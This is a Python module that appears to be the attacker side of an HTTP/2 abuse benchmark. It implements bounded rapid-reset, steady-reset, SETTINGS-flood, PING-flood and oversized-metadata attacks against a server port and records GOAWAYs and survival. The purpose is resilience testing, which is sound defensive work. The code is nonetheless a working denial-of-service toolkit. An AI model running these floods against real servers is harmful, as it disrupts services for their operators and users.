"""The attacker side of ``benchmarks/abuse.py`` (run in a worker process): the raw HTTP/2
attacks. Each builds its bytes, calls ``ready()`` (which returns on the parent's "go"), attacks
over ``RawConn``s and returns what it saw. Every loop is bounded by a count and by a deadline.
"""

from __future__ import annotations

import bisect
import struct
import time
from collections.abc import Callable
from typing import Any

import hpack
from hyperframe.frame import DataFrame, PingFrame, SettingsFrame

from .h2_frames import EMPTY_MESSAGE, header_frames, request_headers, reset_pairs
from .raw_conn import RawConn

__all__ = ["Ready", "big_metadata", "ping_flood", "rapid_reset", "settings_flood", "steady_reset"]

Ready = Callable[[], None]


def rapid_reset(port: int, count: int, ready: Ready) -> dict[str, Any]:
    """``count`` HEADERS + RST_STREAM(CANCEL) pairs as fast as the socket takes them, on one
    connection."""
    data, ends = reset_pairs(port, count)
    with RawConn(port) as conn:
        conn.handshake()
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 60)
        write_s = time.monotonic() - start
        conn.read_until(lambda s: False, time.monotonic() + 5, idle=1.0)
        pairs = bisect.bisect_right(ends, sent)
        result = {
            "pairs_planned": count,
            "pairs_written": pairs,
            "write_s": round(write_s, 3),
            "pairs_per_s": round(pairs / write_s) if write_s > 0 else None,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }
    return result


def steady_reset(port: int, rate: float, duration: float, ready: Ready) -> dict[str, Any]:
    """``rate`` HEADERS + RST_STREAM pairs a second for ``duration`` seconds. A connection the
    server ends (or GOAWAYs) is replaced by a new one, as a real attacker would do; the rate is
    kept over the whole run (a new connection catches up)."""
    per_conn = int(rate * duration) + 1
    data, ends = reset_pairs(port, per_conn)
    max_connections = 2000
    connections = 0
    goaways: dict[str, int] = {}
    first_goaway = "none"
    closed_by_server = 0
    total = 0
    conn: RawConn | None = None
    index = 0  # pairs written on the current connection

    def count_goaway(conn: RawConn) -> None:
        nonlocal first_goaway
        if conn.seen.goaway is not None:
            text = conn.seen.goaway_text().split(" (last")[0]
            goaways[text] = goaways.get(text, 0) + 1
            if first_goaway == "none":
                first_goaway = conn.seen.goaway_text()

    ready()
    start = time.monotonic()
    end_at = start + duration
    try:
        while (now := time.monotonic()) < end_at:
            if (
                conn is None
                or conn.seen.closed
                or conn.seen.goaway is not None
                or index >= per_conn
            ):
                if conn is not None:
                    conn.read_until(lambda s: False, now + 0.05, idle=0.02)
                    count_goaway(conn)
                    if conn.seen.closed:
                        closed_by_server += 1
                    conn.close()
                    conn = None
                if connections >= max_connections:
                    break
                conn = RawConn(port)
                conn.handshake()
                connections += 1
                index = 0
                continue
            due = min(int((now - start) * rate) - total, per_conn - index)
            if due <= 0:
                conn.read_until(lambda s: False, min(end_at, now + 0.004))
                continue
            lo = ends[index - 1] if index else 0
            chunk = data[lo : ends[index + due - 1]]
            sent = conn.write(chunk, min(end_at + 1.0, now + 1.0))
            done = bisect.bisect_right(ends, lo + sent) - index
            total += done
            index += done
            if sent < len(chunk) and not conn.seen.closed:
                conn.seen.closed = "abandoned by us (write stalled)"
    finally:
        if conn is not None:
            count_goaway(conn)
            conn.close()
    elapsed = time.monotonic() - start
    return {
        "rate_planned": rate,
        "duration_s": round(elapsed, 2),
        "resets_written": total,
        "resets_per_s": round(total / elapsed) if elapsed > 0 else None,
        "connections": connections,
        "connections_closed_by_server": closed_by_server,
        "goaways": goaways,
        "goaway_text": first_goaway,
    }


def settings_flood(port: int, count: int, ready: Ready) -> dict[str, Any]:
    """``count`` empty SETTINGS frames on one connection, reading the ACKs as they come."""
    data = SettingsFrame(0).serialize() * count
    with RawConn(port) as conn:
        conn.handshake()
        base = conn.seen.settings_acks
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 60)
        write_s = time.monotonic() - start
        frames = sent // 9
        conn.read_until(lambda s: s.settings_acks - base >= frames, start + 70, idle=2.0)
        return {
            "frames_planned": count,
            "frames_written": frames,
            "write_s": round(write_s, 3),
            "acks_received": conn.seen.settings_acks - base,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }


def ping_flood(
    port: int, count: int, ready: Ready, *, rcvbuf: int = 4096, hold: float = 1.0
) -> dict[str, Any]:
    """Up to ``count`` PINGs from a peer that never reads (a tiny receive buffer, so the
    server's replies back up at once). Writing stops when the server stops reading (no progress
    for 3 s) or ends the connection. Then, after ``hold`` seconds, everything the server had
    queued for us is read and counted."""
    data = b"".join(
        PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize() for i in range(count)
    )
    with RawConn(port, rcvbuf=rcvbuf) as conn:
        conn.handshake()
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 30, read=False, stall=3.0)
        write_s = time.monotonic() - start
        stalled = sent < len(data) and not conn.seen.closed
        closed_while_writing = conn.seen.closed
        time.sleep(hold)
        conn.seen.closed = ""  # an EPIPE while writing: the receive side may still hold data
        conn.read_until(lambda s: False, time.monotonic() + 20, idle=2.0)
        return {
            "pings_planned": count,
            "pings_written": sent // 17,
            "write_s": round(write_s, 3),
            "writes_stalled": stalled,
            "closed_while_writing": closed_while_writing or "no",
            "acks_read_afterwards": conn.seen.ping_acks,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }


def big_metadata(port: int, sizes: list[int], ready: Ready) -> dict[str, Any]:
    """For each size: one request whose metadata carries a ``x-big`` value of that many bytes
    (not Huffman-coded, never indexed, split in CONTINUATIONs), then a normal request on the
    same connection to see whether it survived."""
    ready()
    out: dict[str, Any] = {}
    for size in sizes:
        with RawConn(port, track=(1, 3)) as conn:
            conn.handshake()
            encoder = hpack.Encoder()
            big = [
                hpack.NeverIndexedHeaderTuple(k, v)
                for k, v in request_headers(port, [("x-big", "a" * size)])
            ]
            block = encoder.encode(big, huffman=False)
            first = (
                header_frames(1, block, False)
                + DataFrame(1, data=EMPTY_MESSAGE, flags=["END_STREAM"]).serialize()
            )
            start = time.monotonic()
            sent = conn.write(first, start + 20)
            conn.read_until(lambda s: conn.stream_done(1) or s.goaway is not None, start + 10)
            first_ms = (time.monotonic() - start) * 1000
            entry: dict[str, Any] = {
                "header_block_bytes": len(block),
                "bytes_written": sent,
                "first_call": conn.outcome(1),
                "first_call_ms": round(first_ms, 1),
            }
            if conn.seen.closed or conn.seen.goaway is not None:
                entry["second_call"] = "not possible: connection ended"
                entry["survived"] = False
            else:
                second = (
                    header_frames(3, encoder.encode(request_headers(port)), False)
                    + DataFrame(3, data=EMPTY_MESSAGE, flags=["END_STREAM"]).serialize()
                )
                conn.write(second, time.monotonic() + 10)
                conn.read_until(lambda s: conn.stream_done(3), time.monotonic() + 10)
                entry["second_call"] = conn.outcome(3)
                entry["survived"] = entry["second_call"] == "grpc-status OK"
            conn.read_until(lambda s: False, time.monotonic() + 0.5, idle=0.2)
            entry["goaway_text"] = conn.seen.goaway_text()
            entry["closed"] = conn.seen.closed or "still open"
            out[str(size)] = entry
    return out
